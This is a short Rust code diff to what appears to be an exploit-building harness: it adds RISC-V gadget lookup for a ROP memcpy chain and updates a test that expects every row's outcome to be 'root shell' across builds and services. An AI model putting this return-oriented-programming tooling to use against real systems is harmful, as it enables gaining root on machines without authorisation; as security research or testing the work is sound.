@@ -63,6 +63,10 @@ pub fn run_jobs(jobs: usize) -> Table {
                 .gadgets
                 .arm_pop_including(&[0, 1, 2, 3, 5, 6, 7])
                 .map(|g| g.addr),
+            Arch::Riscv => info
+                .gadgets
+                .riscv_load_including(&[10, 11, 12, 13])
+                .map(|g| g.addr),
         };
         let outcome = match RopMemcpyChain::new(arch)
             .build(&info)
@@ -176,7 +180,7 @@ mod tests {
     #[test]
     fn unchanged_strategy_works_across_builds_and_services() {
         let t = run();
-        assert_eq!(t.rows.len(), 8 + 6);
+        assert_eq!(t.rows.len(), 12 + 9);
         for row in &t.rows {
             assert_eq!(row[4], "root shell", "{row:?}");
         }
